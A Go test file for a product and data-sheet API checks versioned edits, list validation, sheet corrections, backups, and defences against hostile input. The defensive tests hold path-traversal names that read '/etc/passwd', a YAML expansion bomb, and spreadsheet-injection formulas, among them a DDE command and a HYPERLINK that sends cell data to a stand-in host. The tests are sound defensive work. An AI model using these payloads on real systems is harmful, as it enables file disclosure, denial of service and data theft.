package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"sixteen/shelf"
)

// An edit names the version it was made on: without one it is not taken, on an old one the answer shows the other's.
func TestVersions(t *testing.T) {
	s := newSite(t, false)
	r := s.call(t, "POST", "/api/products", `{"name": "Varnish"}`)
	at := r.Header.Get("Location")
	if r.StatusCode != http.StatusCreated || r.Header.Get("ETag") != `"1"` || at != "/api/products/"+fmt.Sprint(r.body["id"]) {
		t.Fatalf("adding gave %d, %v: %s", r.StatusCode, r.Header, r.raw)
	}
	isProblem(t, "without version", s.call(t, "PUT", at, `{"name": "Lacquer"}`), http.StatusPreconditionRequired)
	for _, tag := range []string{`W/"1"`, "*", "1", `"one"`, `""`} {
		isProblem(t, "If-Match "+tag, s.call(t, "PUT", at, `{"name": "Lacquer"}`, "If-Match", tag), http.StatusPreconditionFailed)
	}
	if r := s.call(t, "PUT", at, `{"name": "Lacquer"}`, "If-Match", `"1"`); r.StatusCode != http.StatusOK || r.Header.Get("ETag") != `"2"` {
		t.Errorf("an edit gave %d %s", r.StatusCode, r.raw)
	}
	r = s.call(t, "PUT", at, `{"name": "Shellac"}`, "If-Match", `"1"`)
	isProblem(t, "a late edit", r, http.StatusPreconditionFailed)
	theirs, _ := r.body["theirs"].(map[string]any)
	if theirs["name"] != "Lacquer" || r.body["version"] != 2.0 || !strings.Contains(fmt.Sprint(r.body["do"]), `If-Match: "2"`) {
		t.Errorf("the late edit is told %s", r.raw)
	}
	isProblem(t, "retiring without reason", s.call(t, "POST", at+"/retire", `{"why": " "}`), http.StatusUnprocessableEntity)
	if r := s.call(t, "POST", at+"/retire", `{"why": "used up"}`); r.StatusCode != http.StatusNoContent {
		t.Errorf("retiring gave %d %s", r.StatusCode, r.raw)
	}
	if r := s.call(t, "GET", "/api/products", ""); r.body["total"] != 0.0 {
		t.Errorf("a retired product is listed: %s", r.raw)
	}
	if r := s.call(t, "GET", at, ""); r.body["retired_why"] != "used up" {
		t.Errorf("a retired product is gone: %s", r.raw)
	}
}

// Lists come in parts; filters select; what does not fit is said field by field.
func TestLists(t *testing.T) {
	s := newSite(t, false)
	for i := range 7 {
		if r := s.call(t, "POST", "/api/products", fmt.Sprintf(`{"name": "Paint %d", "code": "P-%d"}`, i, i)); r.StatusCode != http.StatusCreated {
			t.Fatal(r.raw)
		}
	}
	r := s.call(t, "GET", "/api/products?limit=3&offset=6&order=name", "")
	items, _ := r.body["items"].([]any)
	if r.body["total"] != 7.0 || len(items) != 1 {
		t.Errorf("the last part holds %d of %v", len(items), r.body["total"])
	}
	if r := s.call(t, "GET", "/api/products?text=Pant+4", ""); !strings.Contains(r.raw, "Paint 4") {
		t.Errorf("a misspelt name finds %s", r.raw)
	}
	for _, query := range []string{"limit=0", "limit=1001", "limit=many", "offset=-1", "order=colour", "colour=red", "due_by=tomorrow"} {
		r := s.call(t, "GET", "/api/products?"+query, "")
		isProblem(t, query, r, http.StatusUnprocessableEntity)
		if errs, _ := r.body["errors"].([]any); len(errs) == 0 || r.body["do"] == "" {
			t.Errorf("%s is told %s", query, r.raw)
		}
	}
	for what, body := range map[string]string{"no name": `{}`, "an unknown field": `{"name": "x", "colour": "red"}`, "a number for a name": `{"name": 7}`, "not JSON": `{"name": `, "a list": `[]`, "nothing": ` `, "an unknown supplier": `{"name": "x", "supplier": "nobody"}`} {
		if r := s.call(t, "POST", "/api/products", body); r.StatusCode != http.StatusUnprocessableEntity && r.StatusCode != http.StatusBadRequest {
			t.Errorf("%s gave %d %s", what, r.StatusCode, r.raw)
		} else {
			isProblem(t, what, r, r.StatusCode)
		}
	}
	isProblem(t, "2 MB of JSON", s.call(t, "POST", "/api/products", `{"name": "`+strings.Repeat("x", 2<<20)+`"}`), http.StatusRequestEntityTooLarge)
	isProblem(t, "an unknown address", s.call(t, "GET", "/api/nothing", ""), http.StatusNotFound)
	isProblem(t, "an unknown record", s.call(t, "GET", "/api/products/nothing", ""), http.StatusNotFound)
}

// The same sheet twice is one sheet; a correction changes what follows and is taken back; a finding is set aside and stands again.
func TestSheetOfAProduct(t *testing.T) {
	s := newSite(t, false)
	sheet := sheetOf(t, "murrelam-b")
	first, again := s.upload(t, "", "b.pdf", sheet), s.upload(t, "", "copy of b.pdf", sheet)
	if first.StatusCode != http.StatusCreated || again.StatusCode != http.StatusOK {
		t.Fatalf("uploads gave %d and %d: %s", first.StatusCode, again.StatusCode, again.raw)
	}
	s.settle(t)
	sheets, err := s.shelf.Sheets(t.Context(), shelf.SheetFilter{})
	if err != nil || sheets.Total != 1 {
		t.Fatalf("after two uploads of one document there are %d sheets, %v", sheets.Total, err)
	}
	at := "/api/sheets/" + sheets.Items[0].ID
	if r := s.call(t, "GET", at+"/document", ""); r.raw != string(sheet) || !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("the document comes back as %d bytes, %q", len(r.raw), r.Header.Get("Content-Disposition"))
	}
	facts, _ := s.call(t, "GET", at+"/facts", "").body["facts"].([]any)
	if len(facts) < 50 {
		t.Fatalf("the sheet has %d facts", len(facts))
	}
	name := ""
	for _, f := range facts {
		if m, _ := f.(map[string]any); m["section"] == 1.0 && m["state"] == "stated" {
			name = fmt.Sprint(m["path"])
			break
		}
	}
	isProblem(t, "a correction without reason", s.call(t, "POST", at+"/corrections", fmt.Sprintf(`{"path": %q, "value": "Other", "why": ""}`, name)), http.StatusUnprocessableEntity)
	isProblem(t, "a correction of no fact", s.call(t, "POST", at+"/corrections", `{"path": "nowhere.at.all", "value": "Other", "why": "misread"}`), http.StatusUnprocessableEntity)
	r := s.call(t, "POST", at+"/corrections", fmt.Sprintf(`{"path": %q, "value": "Other words", "why": "misread"}`, name))
	if r.StatusCode != http.StatusCreated {
		t.Fatalf("a correction of %s gave %d %s", name, r.StatusCode, r.raw)
	}
	isProblem(t, "a correction by somebody who did not see the last", s.call(t, "POST", at+"/corrections", fmt.Sprintf(`{"path": %q, "value": "Third words", "why": "misread"}`, name)), http.StatusPreconditionFailed)
	if r := s.call(t, "GET", at+"/facts", ""); !strings.Contains(r.raw, "Other words") {
		t.Error("the corrected value is not among the facts")
	}
	if r := s.call(t, "POST", at+"/corrections/take-back", fmt.Sprintf(`{"path": %q}`, name)); r.StatusCode != http.StatusNoContent {
		t.Errorf("taking it back gave %d %s", r.StatusCode, r.raw)
	}
	report, _ := s.call(t, "GET", at+"/judgement", "").body["report"].(map[string]any)
	findings, _ := report["findings"].([]any)
	if len(findings) == 0 {
		t.Fatal("the sheet has no findings")
	}
	finding, _ := findings[0].(map[string]any)
	isProblem(t, "overruling nothing", s.call(t, "POST", at+"/overrulings", `{"finding": "nothing", "why": "x"}`), http.StatusUnprocessableEntity)
	if r := s.call(t, "POST", at+"/overrulings", fmt.Sprintf(`{"finding": %q, "why": "seen on the tin"}`, finding["id"])); r.StatusCode != http.StatusCreated {
		t.Errorf("overruling gave %d %s", r.StatusCode, r.raw)
	}
	if r := s.call(t, "POST", at+"/overrulings/take-back", fmt.Sprintf(`{"finding": %q}`, finding["id"])); r.StatusCode != http.StatusNoContent {
		t.Errorf("letting it stand again gave %d %s", r.StatusCode, r.raw)
	}
}

// A job opens no files of this machine, whatever it names; YAML that would unfold without end is refused.
func TestJobsOpenNoFiles(t *testing.T) {
	s := newSite(t, false)
	for _, file := range []string{"/etc/passwd", "../../../../etc/passwd", "sheets/varnish.pdf", "shelf:nothing", "shelf:../../etc/passwd", `C:\\Windows\\win.ini`} {
		r := s.call(t, "POST", "/api/plans", fmt.Sprintf(`{"description": {"name": "x", "jurisdiction": "us", "products": [{"name": "p", "file": "%s"}], "rooms": [{"name": "shed", "volume_m3": 30, "air_changes_per_hour": 1}], "tasks": [{"name": "coat", "kind": "brush", "room": "shed", "product": "p", "start_min": 0, "duration_min": 10, "amount_g": 100, "area_m2": 1, "surface": "film"}]}}`, file))
		isProblem(t, file, r, http.StatusUnprocessableEntity)
		if strings.Contains(r.raw, "root:") || strings.Contains(r.raw, "no such file") {
			t.Errorf("the answer tells of files: %s", r.raw)
		}
	}
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'k'; c++ {
		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
	}
	isProblem(t, "YAML that unfolds without end", s.call(t, "POST", "/api/plans", fmt.Sprintf(`{"description": %q}`, bomb)), http.StatusUnprocessableEntity)
	isProblem(t, "a huge job", s.call(t, "POST", "/api/plans", fmt.Sprintf(`{"description": %q}`, strings.Repeat("# nothing\n", 40_000))), http.StatusUnprocessableEntity)
	isProblem(t, "deep JSON", s.call(t, "POST", "/api/plans", `{"description": `+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)+`}`), http.StatusBadRequest)
}

// Cells that a spreadsheet would take for a formula are exported so that it does not.
func TestExportsHoldNoFormulas(t *testing.T) {
	s := newSite(t, false)
	formulas := []string{`=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, "\t=1+1", "\r=1+1", `=HYPERLINK("http://elsewhere.example?"&A1)`}
	for _, f := range formulas {
		if _, err := s.shelf.AddProduct(t.Context(), "test", shelf.Product{Name: f, Code: f, Note: f}); err != nil {
			t.Fatal(err)
		}
	}
	dangerous := func(cell string) bool { return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") }
	r := s.call(t, "GET", "/api/export?format=csv", "")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.raw, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("the table has %d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if dangerous(cell) {
				t.Errorf("CSV: a cell begins %.20q", cell)
			}
		}
	}
	book, err := excelize.OpenReader(strings.NewReader(s.call(t, "GET", "/api/export?format=xlsx", "").raw))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	cells := 0
	for _, name := range book.GetSheetList() {
		rows, err := book.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x := range row {
				at, err := excelize.CoordinatesToCellName(x+1, y+1)
				if err != nil {
					t.Fatal(err)
				}
				if f, err := book.GetCellFormula(name, at); err != nil || f != "" {
					t.Errorf("XLSX: %s holds the formula %q, %v", at, f, err)
				}
				cells++
			}
		}
	}
	if cells < len(formulas) {
		t.Errorf("the workbook has %d cells", cells)
	}
}

// A backup that comes over the API fills an empty shelf.
func TestBackupDownload(t *testing.T) {
	s := newSite(t, false)
	if _, err := s.shelf.AddProduct(t.Context(), "test", shelf.Product{Name: "Varnish"}); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadDir(os.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	raw := s.call(t, "GET", "/api/backup", "").raw
	other := newSite(t, false)
	if _, err := other.shelf.Restore(t.Context(), bytes.NewReader([]byte(raw)), int64(len(raw))); err != nil {
		t.Fatal(err)
	}
	if p, err := other.shelf.Products(t.Context(), shelf.ProductFilter{}); err != nil || p.Total != 1 {
		t.Errorf("the restored shelf has %d products, %v", p.Total, err)
	}
	left := 0
	for _, e := range before {
		if strings.HasPrefix(e.Name(), "sixteen-file-") {
			left++
		}
	}
	after, err := os.ReadDir(os.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range after {
		if strings.HasPrefix(e.Name(), "sixteen-file-") {
			left--
		}
	}
	if left < 0 {
		t.Error("the backup was left in the folder for temporary files")
	}
}
